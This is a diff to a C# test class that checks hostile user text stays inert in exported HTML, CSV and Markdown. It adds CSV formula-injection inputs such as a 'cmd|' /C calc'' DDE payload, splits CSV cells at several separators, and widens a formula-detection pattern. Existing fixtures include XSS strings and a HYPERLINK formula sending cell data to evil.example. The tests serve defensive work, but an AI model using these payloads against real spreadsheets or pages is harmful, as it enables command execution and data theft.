@@ -24,6 +24,11 @@ public sealed partial class HostileTextTests : Journey
     [InlineData("\" onload=x ' autofocus onfocus=alert(1) <b>bold</b> </textarea></title><svg onload=alert(1)>")]
     [InlineData("=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")")]
     [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
+    [InlineData("foo;=cmd|' /C calc'!A0;+1")]
+    [InlineData("foo\t=1+1\t-2+3")]
+    [InlineData("foo|@SUM(1+1)|%x")]
+    [InlineData("foo;\"=1+1\";\"\"=2\"\"; \" -3")]
+    [InlineData("foo;＝1+1;\t=2,=3, -4")]
     [InlineData("\u202Etxet \u2067sdrawkcab +1+1")]
     [InlineData("[Click](javascript:alert(1)) javascript:alert(1) data:text/html,<script>alert(1)</script>")]
     public async Task Whatever_is_written_stays_a_text_everywhere(string hostile)
@@ -124,7 +129,11 @@ public sealed partial class HostileTextTests : Journey
                 Assert.Empty(document.Scripts);
                 break;
             case ".csv":
-                Assert.All(Cells(text), cell => Assert.False(Formula().IsMatch(cell) && !decimal.TryParse(cell, CultureInfo.InvariantCulture, out _), $"{where}: {cell}"));
+                foreach (var separator in ",;\t|")
+                {
+                    Assert.All(Cells(text, separator), cell => Assert.False(Formula().IsMatch(cell) && !decimal.TryParse(cell, CultureInfo.InvariantCulture, out _), $"{where}, parted at {separator}: {cell}"));
+                }
+
                 break;
             case ".md":
                 Assert.DoesNotMatch("(?<!\\\\)<(?!/?(strong|em)>)[a-zA-Z/]|(?<!\\\\)\\]\\((?!https?://)", text);
@@ -136,8 +145,17 @@ public sealed partial class HostileTextTests : Journey
         }
     }
 
-    private static List<string> Cells(string text)
+    /// <summary>
+    /// The cells as a program reads them that parts at this sign. At a comma they are read as they were written; at another sign, quotes may stand within a
+    /// cell and then keep nothing together.
+    /// </summary>
+    private static List<string> Cells(string text, char separator)
     {
+        if (separator != ',')
+        {
+            return [.. text.TrimStart('\uFEFF').Split('\r', '\n').SelectMany(line => line.Split(separator)).Select(cell => cell.Trim('"', ' '))];
+        }
+
         using var file = new StringReader(text.TrimStart('\uFEFF'));
         using var csv = CsvReader.Create(file, new CsvReaderOptions { HasHeader = false });
         var cells = new List<string>();
@@ -155,6 +173,6 @@ public sealed partial class HostileTextTests : Journey
     [GeneratedRegex("[\u202A-\u202E\u2066-\u2069]", RegexOptions.None, matchTimeoutMilliseconds: 1000)]
     private static partial Regex Turn();
 
-    [GeneratedRegex("^\\s*[=+\\-@\\t|%]", RegexOptions.None, matchTimeoutMilliseconds: 1000)]
+    [GeneratedRegex("^\\s*[=+\\-@\\t|%＝＋－＠]", RegexOptions.None, matchTimeoutMilliseconds: 1000)]
     private static partial Regex Formula();
 }
